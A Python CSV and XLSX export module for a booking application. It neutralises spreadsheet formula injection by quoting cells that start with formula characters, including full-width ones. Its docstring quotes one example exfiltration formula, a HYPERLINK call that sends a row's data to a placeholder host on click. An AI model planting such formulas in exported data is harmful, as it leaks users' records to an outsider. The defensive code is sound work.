"""The one CSV and XLSX writer: every export (a facility's bookings, a group's bookings, the
statistics tables) goes through it; CSV and XLSX take the same header and rows.

Staff open these files in Excel or LibreOffice, and names in them are typed by anyone who
registers a group. A cell that starts with = + - @ (or a tab or carriage return, which a
spreadsheet skips before reading a formula) would run as a formula there:
`=HYPERLINK("http://x/?"&B2,"x")` sends the row's data away on a click. So such a cell gets
a leading single quote, as OWASP's CSV-injection advice says; the quote shows that the text
was changed, and no data is lost.

Full-width ＝ ＋ － ＠ too: Japanese Excel turns a full-width = typed at the start of a cell
into a formula, and we could not check that it never does so when it opens a file. The cost
of neutralising them is a visible quote on a name that starts with one, which is rare.

An XLSX file gets the very same cells: a text cell is written as a string (never a formula,
which openpyxl would make of any string starting with "="), with the same leading quote, so
that both files read the same. Numbers stay numbers there, with a number format per column.
"""

from __future__ import annotations

import csv
import io
import unicodedata
from collections.abc import Iterable, Sequence
from dataclasses import dataclass

from litestar import Response
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.cell.cell import Cell as XlsxCell
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter
from openpyxl.worksheet._write_only import WriteOnlyWorksheet
from openpyxl.worksheet.dimensions import ColumnDimension, DimensionHolder

# Litestar adds "; charset=utf-8" to every text/* type itself: name the type alone.
CSV_MEDIA_TYPE = "text/csv"
XLSX_MEDIA_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")

Cell = str | int | float | None
# Number formats of an XLSX column: a rate (a float 0..1) as a percentage, a ratio (2.4
# applicants a slot) with one decimal, yen with separators.
PERCENT = "0.0%"
RATIO = "0.0"
YEN = "#,##0"
# Sheet names: at most 31 characters, none of these (Excel refuses the file otherwise).
SHEET_NAME_LENGTH = 31
SHEET_NAME_FORBIDDEN = str.maketrans(dict.fromkeys("[]:*?/\\", "_"))
# Column widths in characters: a full-width (Japanese) character counts two.
MIN_WIDTH = 8
MAX_WIDTH = 60


def safe_cell(value: Cell) -> str | int | float:
    """A cell no spreadsheet runs: text starting like a formula gets a leading quote.
    Numbers are ours (ids, fees, rates), never typed by a user, and stay numbers."""
    if value is None:
        return ""
    if isinstance(value, int | float):
        return value
    if value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_text(header: Sequence[str], rows: Iterable[Sequence[Cell]]) -> str:
    """UTF-8 with a BOM, so that spreadsheet software in Japan reads the names right; CRLF
    line ends (RFC 4180); every cell neutralised."""
    out = io.StringIO()
    out.write("\ufeff")
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([safe_cell(name) for name in header])
    writer.writerows([safe_cell(cell) for cell in row] for row in rows)
    return out.getvalue()


def csv_response(
    filename: str, header: Sequence[str], rows: Iterable[Sequence[Cell]]
) -> Response[str]:
    """A CSV download. The file name is ours (ids and dates), never a user's text."""
    return Response(
        csv_text(header, rows),
        media_type=CSV_MEDIA_TYPE,
        headers={"Content-Disposition": f'attachment; filename="{filename}"'},
    )


@dataclass(frozen=True, slots=True)
class Sheet:
    """One sheet of an XLSX file: its name, header and rows, and a number format per column
    (None: the default; columns past the end of `formats` get the default too)."""

    name: str
    header: Sequence[str]
    rows: Sequence[Sequence[Cell]]
    formats: Sequence[str | None] = ()


def xlsx_bytes(
    sheet: str,
    header: Sequence[str],
    rows: Iterable[Sequence[Cell]],
    *,
    formats: Sequence[str | None] = (),
    more: Sequence[Sheet] = (),
) -> bytes:
    """An XLSX workbook: the table on its first sheet (header row frozen, widths fitted to the
    text), then `more` sheets (a table's definitions). Every text cell neutralised as in CSV."""
    workbook = Workbook(write_only=True)
    for each in (Sheet(sheet, header, list(rows), formats), *more):
        _write_sheet(workbook.create_sheet(_sheet_name(each.name)), each)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def xlsx_response(
    filename: str,
    sheet: str,
    header: Sequence[str],
    rows: Iterable[Sequence[Cell]],
    *,
    formats: Sequence[str | None] = (),
    more: Sequence[Sheet] = (),
) -> Response[bytes]:
    """An XLSX download. The file name is ours (ids and dates), never a user's text."""
    return Response(
        xlsx_bytes(sheet, header, rows, formats=formats, more=more),
        media_type=XLSX_MEDIA_TYPE,
        headers={"Content-Disposition": f'attachment; filename="{filename}"'},
    )


def _write_sheet(worksheet: WriteOnlyWorksheet, sheet: Sheet) -> None:
    widths = [_width(name) for name in sheet.header]
    for row in sheet.rows:
        for index, value in enumerate(row):
            if index < len(widths):
                widths[index] = max(widths[index], _width(value))
    # A write-only sheet has the column widths of a normal one (Worksheet._setup), before its
    # first row; types-openpyxl leaves them out of its stub.
    columns: DimensionHolder[str, ColumnDimension] = worksheet.column_dimensions  # type: ignore[attr-defined]
    for index, width in enumerate(widths, start=1):
        columns[get_column_letter(index)].width = min(max(width + 2, MIN_WIDTH), MAX_WIDTH)
    worksheet.freeze_panes = "A2"
    bold = Font(bold=True)
    worksheet.append([_xlsx_cell(worksheet, name, None, bold) for name in sheet.header])
    for row in sheet.rows:
        worksheet.append(
            [
                _xlsx_cell(worksheet, value, _format(sheet.formats, index), None)
                for index, value in enumerate(row)
            ]
        )


def _xlsx_cell(
    worksheet: WriteOnlyWorksheet, value: Cell, number_format: str | None, font: Font | None
) -> XlsxCell:
    """A cell as the CSV has it: empty for None, a number as a number, text as a string cell
    (data type "s" set after the value, so that no text is ever read as a formula)."""
    safe = None if value is None else safe_cell(value)
    if isinstance(safe, str):
        # Control characters XML cannot carry (text fields refuse them; an old row may not).
        safe = ILLEGAL_CHARACTERS_RE.sub("", safe)
    cell = WriteOnlyCell(worksheet, value=safe)
    if isinstance(safe, str):
        # A second lock: safe_cell has already quoted every text openpyxl would read as a
        # formula (one starting with "="), so no test can see this line; it keeps the cell a
        # string should FORMULA_STARTS ever lose its "=".
        cell.data_type = "s"
    elif safe is not None and number_format is not None:
        cell.number_format = number_format
    if font is not None:
        cell.font = font
    return cell


def _format(formats: Sequence[str | None], index: int) -> str | None:
    return formats[index] if index < len(formats) else None


def _width(value: Cell) -> int:
    """How wide a cell shows, in characters: a full-width character counts two."""
    text = "" if value is None else str(safe_cell(value))
    if isinstance(value, float):
        text = f"{value:.1%}"
    return sum(2 if unicodedata.east_asian_width(char) in "WF" else 1 for char in text)


def _sheet_name(name: str) -> str:
    return name.translate(SHEET_NAME_FORBIDDEN)[:SHEET_NAME_LENGTH] or "Sheet"
